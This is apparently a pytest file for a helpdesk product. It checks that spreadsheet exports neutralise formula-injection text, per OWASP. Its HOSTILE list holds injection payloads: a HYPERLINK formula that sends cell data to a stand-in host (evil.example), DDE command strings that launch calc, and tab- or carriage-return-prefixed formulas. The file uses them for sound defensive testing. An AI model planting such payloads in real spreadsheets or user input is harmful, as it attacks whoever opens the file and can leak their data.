"""No export can attack the person who opens it: text typed by a user or brought in by an
import that looks like a formula (`= + - @`, a leading tab or carriage return) is written as
inert text in every workbook the product writes (OWASP's rule), never as a live formula."""

from __future__ import annotations

from datetime import date, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from helpdesk.clock import FrozenClock
from helpdesk.services.workspace import Workspace, resolve_actor
from helpdesk.storage.sheets import DANGEROUS, inert
from tests.conftest import local

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[tuple[str, object, str]]:
    book = load_workbook(path)
    return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_inert(path: Path) -> None:
    for where, value, kind in _cells(path):
        assert kind != "f", f"{path.name} {where}: a live formula {value!r}"
        if isinstance(value, str):
            assert not (len(value) > 1 and value.startswith(DANGEROUS)), \
                f"{path.name} {where}: {value!r} is not neutralised"


def test_inert_follows_owasp() -> None:
    assert inert("=1+1") == "'=1+1" and inert("@x") == "'@x" and inert("\t=1") == "'\t=1"
    assert inert("-") == "-" and inert("正常文本") == "正常文本" and inert(-5) == -5


def test_every_export_is_inert(ws: Workspace, clock: FrozenClock, tmp_path: Path) -> None:
    from helpdesk.contract.acceptance import write_pack
    from helpdesk.data.queries import QueryParams
    from helpdesk.data.requests import add_request, fulfil_request
    from helpdesk.questions.actions import add_question
    from helpdesk.questions.kb import save_article, set_status
    from helpdesk.questions.kb_exchange import export_xlsx
    from helpdesk.reports.export import write_report
    from helpdesk.services.units import add_unit
    from helpdesk.training.actions import plan_session
    from helpdesk.training.people import add_attendee
    from helpdesk.training.report import write_report as write_training

    actor = resolve_actor(ws)
    unit = add_unit(ws, actor, "S01", "=福田街道+1", "street").id
    clock.set(local(2026, 10, 12, 10, 0))
    for text in HOSTILE:
        add_question(ws, actor, title=text, category="handling", unit_id=unit, asker_name=text)
    article = save_article(ws, actor, None, None, title=HOSTILE[0], question=HOSTILE[1],
                           answer=HOSTILE[2], category="handling", tags=HOSTILE[3])
    set_status(ws, actor, article.id, article.version, "published")
    session = plan_session(ws, actor, kind="business", day=date(2026, 10, 13),
                           start=time(14, 30), place=HOSTILE[0], trainer=HOSTILE[1]).session
    for text in HOSTILE[2:5]:
        add_attendee(ws, actor, session.id, text, unit, role=HOSTILE[3])
    request = add_request(ws, actor, title=HOSTILE[4].strip(), asker_name="=某人")
    paths = [tmp_path / name for name in ("kb.xlsx", "training.xlsx", "report.xlsx",
                                           "data.xlsx", "pack")]
    export_xlsx(ws, actor, paths[0])
    write_training(ws, actor, session.id, "xlsx", paths[1])
    write_report(ws, actor, "monthly", "2026-10", "xlsx", paths[2])
    fulfil_request(ws, actor, request.id, request.version, "question_list",
                   QueryParams(date(2026, 10, 1), date(2026, 10, 31)), path=paths[3])
    write_pack(ws, actor, paths[4])
    for path in (*paths[:4], paths[4].with_suffix(".xlsx")):
        assert path.exists(), path
        assert_inert(path)
    kb = {value for _where, value, _kind in _cells(paths[0])}
    assert "'" + HOSTILE[0] in kb  # kept, readable, inert


@pytest.mark.parametrize("value", HOSTILE)
def test_a_roster_name_cannot_run_either(ws: Workspace, tmp_path: Path, value: str) -> None:
    from openpyxl import Workbook

    from helpdesk.storage.sheets import save_book

    book = Workbook()
    book.active.append([value, 1, "正常"])
    path = tmp_path / "x.xlsx"
    path.write_bytes(save_book(book))
    assert_inert(path)
